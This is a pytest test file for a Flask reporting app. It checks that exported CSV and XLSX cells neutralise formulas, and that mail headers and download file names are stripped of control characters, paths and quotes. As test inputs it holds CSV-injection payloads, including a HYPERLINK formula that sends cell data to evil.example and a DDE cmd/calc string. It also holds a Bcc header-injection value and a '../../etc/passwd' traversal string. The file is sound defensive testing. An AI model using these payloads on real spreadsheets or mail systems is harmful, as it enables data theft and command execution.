"""Output hygiene: every CSV and XLSX neutralises formulas in every column; mail headers and file names
carry no control characters; a failure while sending releases the report and says what failed."""
from __future__ import annotations

import csv
import email
import email.policy
import io

import openpyxl
import pytest
from flask_babel import force_locale

from walks.actions import spreadsheet as actions_sheet
from walks.actors import service as actors
from walks.exports import service as exports
from walks.extensions import db
from walks.reports import delivery, outputs
from walks.reports import service as reports
from walks.safe_text import content_disposition, download_name, mail_header
from walks.spreadsheets import FORMULA_STARTS, read_cell, safe_cell

from ..conftest import csrf_token_from
from .test_reports_sending import smtp  # noqa: F401  (the real local SMTP server fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS + ["=", "+x", "@", "==1"])
def test_formula_like_text_gets_an_apostrophe_and_reads_back_the_same(value):
    assert safe_cell(value) == "'" + value
    assert read_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["+46 31-123 45 67", "-12,5", "-3.5", "031-123 45 67", "Lampan är trasig",
                                   "", "-", "'redan med apostrof", 42, -7, 3.5, None])
def test_other_values_stay_as_they_are(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert read_cell(value) == value


def dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and safe_cell(value) != value


def csv_cells(text: str, delimiter=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def xlsx_cells(data: bytes) -> dict[str, list[list]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
            for sheet in workbook.worksheets}


# --- every column of every export: the row builders are made to return a formula everywhere --------

def test_observation_csv_neutralises_a_formula_in_every_column(make, monkeypatch):
    monkeypatch.setattr(exports, "properties", lambda o, url: {c: "=FORMULA()" for c in exports.CSV_COLUMNS})
    header, *rows = csv_cells(exports.csv_text([make.observation()], lambda name: name))
    assert rows == [["'=FORMULA()"] * len(exports.CSV_COLUMNS)]


@pytest.fixture
def report(app, make):
    walk = make.walk()
    city = make.organization(name="Stadsmiljöförvaltningen")
    reports.save_rule(walk.area, None, category_id=make.category("lighting").id, organization_id=city.id)
    make.observation(walk=walk)
    (draft,), _ = reports.build_drafts(walk.observations, None)
    db.session.commit()
    return draft


def test_report_csv_and_xlsx_neutralise_a_formula_in_every_column(app, report, monkeypatch):
    width = len(outputs._columns())
    monkeypatch.setattr(outputs, "_row", lambda report, view: ["@FORMULA()"] * width)
    with app.test_request_context():
        header, *rows = csv_cells(outputs.items_csv(report).decode("utf-8-sig"), delimiter=";")
        sheets = xlsx_cells(outputs.items_xlsx(report))
    assert rows == [["'@FORMULA()"] * width]
    (sheet,) = sheets.values()
    assert sheet[1:] == [[("'@FORMULA()", "s")] * width]


def test_action_plan_xlsx_and_csv_neutralise_a_formula_in_every_column(make, monkeypatch):
    area = make.area()
    organization = make.organization(name="=HYPERLINK(\"x\")")
    make.contact(organization=organization, name="+Kontakt()")
    area.organizations.append(organization)
    monkeypatch.setattr(actions_sheet, "_row", lambda action: {k: "-FORMULA()" for k, _, _ in actions_sheet.COLUMNS})
    make_action(area, organization)
    sheets = xlsx_cells(actions_sheet.export_xlsx(area))
    plan, actors_sheet = sheets["Åtgärdsplan"], sheets["Aktörer"]
    assert plan[1:] == [[("'-FORMULA()", "s")] * len(actions_sheet.COLUMNS)]
    assert actors_sheet[1:] == [[("'=HYPERLINK(\"x\")", "s"), ("'+Kontakt()", "s")]]
    header, *rows = csv_cells(actions_sheet.export_csv(area))
    assert rows == [["'-FORMULA()"] * len(actions_sheet.COLUMNS)]


def make_action(area, organization):
    from walks.models import ActionItem
    action = ActionItem(area=area, title="=T()", organization=organization)
    db.session.add(action)
    db.session.flush()
    return action


def test_contact_csv_neutralises_a_formula_in_every_column(make, monkeypatch):
    monkeypatch.setattr(actors, "kind_label", lambda kind: "=KIND()")
    area = make.area()
    organization = make.organization(name="=ORG()")
    area.organizations.append(organization)
    make.contact(organization=organization, name="@NAME()", role="+ROLE()", phone="-1+PHONE()",
                 email="=EMAIL()")
    header, *rows = csv_cells(actors.area_contacts_csv(area))
    assert rows == [["'=ORG()", "'=KIND()", "'@NAME()", "'+ROLE()", "'-1+PHONE()", "'=EMAIL()"]]


# --- and the real downloads, with formulas typed where people type them --------------------------------

def test_no_download_carries_a_live_formula(app, client, login, make, report):
    login(make.user(role="admin"))
    area = report.walk.area
    area.name = "=AREA()"
    report.walk.title = "@WALK()"
    organization = report.organization
    organization.name = "+ORG()"
    area.organizations.append(organization)
    make.contact(organization=organization, name="=CONTACT()", role="-ROLE()")
    for item in report.items:
        item.observation.text = '=HYPERLINK("http://evil.example")'
        item.observation.address = "@ADDRESS()"
    make_action(area, organization)
    db.session.commit()
    downloads = {
        f"/walks/{report.walk_id}.csv": "csv",
        f"/areas/{area.id}.csv": "csv",
        f"/reports/{report.id}.csv": "csv;",
        f"/reports/{report.id}.xlsx": "xlsx",
        f"/areas/{area.id}/actions.xlsx": "xlsx",
        f"/areas/{area.id}/actions.csv": "csv",
        f"/areas/{area.id}/contacts.csv": "csv",
    }
    for url, kind in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, url
        if kind == "xlsx":
            cells = [value for sheet in xlsx_cells(response.data).values() for row in sheet for value, _ in row]
        else:
            cells = [v for row in csv_cells(response.get_data(True), ";" if kind == "csv;" else ",") for v in row]
        assert not [value for value in cells if dangerous(value)], url
        assert any(isinstance(v, str) and v.startswith("'") and dangerous(v[1:]) for v in cells), url


# --- mail headers and file names ---------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("Hjalmar\nBrantingsplatsen", "Hjalmar Brantingsplatsen"),
    ("Område\r\nBcc: evil@example.se", "Område Bcc: evil@example.se"),
    ("  tab\there \x00 and\u2028more ", "tab here and more"),
    ("x" * 300, "x" * 200),
])
def test_mail_header_is_one_clean_line(value, expected):
    assert mail_header(value) == expected


@pytest.mark.parametrize("value, expected", [
    ("../../etc/passwd", "etc-passwd"),
    ('rapport"; filename="evil.exe', "rapport-filename-evil.exe"),
    ("Område\nNorr.csv", "Område-Norr.csv"),
    ("", "download"),
    ("...", "download"),
])
def test_download_name_has_no_path_quotes_or_control_characters(value, expected):
    assert download_name(value) == expected


def test_content_disposition_keeps_unicode_and_an_ascii_fallback():
    header = content_disposition('Åtgärder "Norr"\r\n.xlsx')
    assert header == "attachment; filename=\"Atgarder-Norr-.xlsx\"; filename*=UTF-8''%C3%85tg%C3%A4rder-Norr-.xlsx"
    assert "\n" not in header and "\r" not in header


def test_an_area_name_with_a_line_break_sends_fine_in_one_subject_line(app, client, login, make, report, smtp):  # noqa: F811
    report.walk.area.name = "Hjalmar\nBrantingsplatsen\r\nBcc: evil@example.se"
    db.session.commit()
    login(make.user(role="admin"))
    page = client.get(f"/reports/{report.id}").get_data(True)
    response = client.post(f"/reports/{report.id}/send", data={"csrf_token": csrf_token_from(page)})
    assert response.status_code == 303
    db.session.refresh(report)
    assert report.status == "sent", report.last_error
    (envelope,) = smtp.envelopes
    assert envelope.rcpt_tos == [report.organization.report_email]
    message = email.message_from_bytes(envelope.content, policy=email.policy.default)
    assert message["Subject"].endswith("Hjalmar Brantingsplatsen Bcc: evil@example.se")
    assert message["Bcc"] is None


def test_a_failure_while_sending_releases_the_claim_and_the_page_says_what_failed(app, client, login, make, report,
                                                                                   monkeypatch):
    def broken(report, locale="sv"):
        raise ValueError("Header values may not contain linefeed or carriage return characters")
    monkeypatch.setattr(delivery, "build_email", broken)
    login(make.user(role="admin"))
    client.set_cookie("lang", "en")
    page = client.get(f"/reports/{report.id}").get_data(True)
    response = client.post(f"/reports/{report.id}/send", data={"csrf_token": csrf_token_from(page)})
    assert response.status_code == 303
    db.session.refresh(report)
    assert report.status == "draft" and report.sending_since is None and report.send_attempts == 1
    assert "linefeed" in report.last_error
    shown = client.get(f"/reports/{report.id}").get_data(True)
    assert "Sending failed" in shown and "linefeed" in shown
    with force_locale("en"):
        assert reports.claim_for_sending(report)  # free to be sent again
